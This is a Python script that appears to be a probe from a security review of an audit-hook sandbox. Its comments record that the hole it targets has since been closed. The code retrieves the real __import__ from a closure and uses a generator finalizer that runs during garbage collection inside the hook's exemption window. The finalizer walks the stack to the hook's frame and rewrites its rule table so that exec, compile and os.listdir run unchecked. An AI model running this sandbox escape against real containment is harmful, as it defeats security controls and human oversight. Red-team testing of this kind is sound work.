# held: 3
# Layer 2 probe (tenth review): a garbage collection started by an allocation inside the hook's
# self-exemption window ran the program's finalizer with the hook off; it rewrote the hook's rules.
# Collections are now off in that window, and the rules are read-only views.
# Layer 2 only (--no-validate). A generator finalizer run by a GC collection that the audit
# hook's own allocation triggers (inside `raised_by`, while the thread is in the hook's
# exemption set) reads the hook's frame and writes a rule into its `rules` dict that trusts
# one of the program's code objects for exec/compile/os.*: the hook stays off for it for good.
import sys as facade_sys
import typing

real_import = [c.cell_contents for c in __import__.__closure__
               if type(c.cell_contents).__name__ == "builtin_function_or_method"
               and c.cell_contents.__name__ == "__import__"][0]
sys = real_import("sys")
B = sys.modules["builtins"]


def trusted_runner(what):
    if what == "eval":
        return B.eval("6*7")
    if what == "exec":
        ns = {"__builtins__": B}
        B.exec("r = ('exec ran a string', 6 * 7, open)", ns)
        return ns["r"]
    if what == "listdir":
        return real_import("os").listdir(".")


state = {}


def tamper():
    f = sys._getframe(0)
    while f is not None and f.f_code.co_name != "raised_by":
        f = f.f_back
    if f is None:
        return "no raised_by frame"
    rules = f.f_locals["rules"]
    entry = (range(0, 1 << 20), None, (), None)
    for event in ("compile", "exec", "os.listdir", "os.scandir", "sys._getframe", "object.__getattr__"):
        rules.setdefault(event, {})[id(trusted_runner.__code__)] = entry
    return "rules patched: " + repr(sorted(rules))


def finalizer(box):
    try:
        yield 1
    finally:
        try:
            box.append(tamper())
        except BaseException as e:
            box.append(f"{type(e).__name__}: {e}")


def plant(box):
    g = finalizer(box)
    next(g)
    cycle = [g]
    cycle.append(cycle)


def sync():
    flag = []
    plant(flag)
    keep = []
    while not flag:
        keep.append([])


seen = []
for n in range(0, 1400):
    sync()
    box = []
    pad = []
    for _ in range(n):
        pad.append([])
    plant(box)
    typing.NewType("UserId", int)
    if box and box[0].startswith("rules patched"):
        print("window hit at n =", n, "->", box[0])
        break
    if box:
        seen.append((n, box[0][:60]))
else:
    print("no hit", seen[:3], seen[-3:])
for what in ("eval", "exec", "listdir"):
    try:
        print(what, "->", trusted_runner(what))
    except BaseException as e:
        print(what, "HELD", type(e).__name__, e)
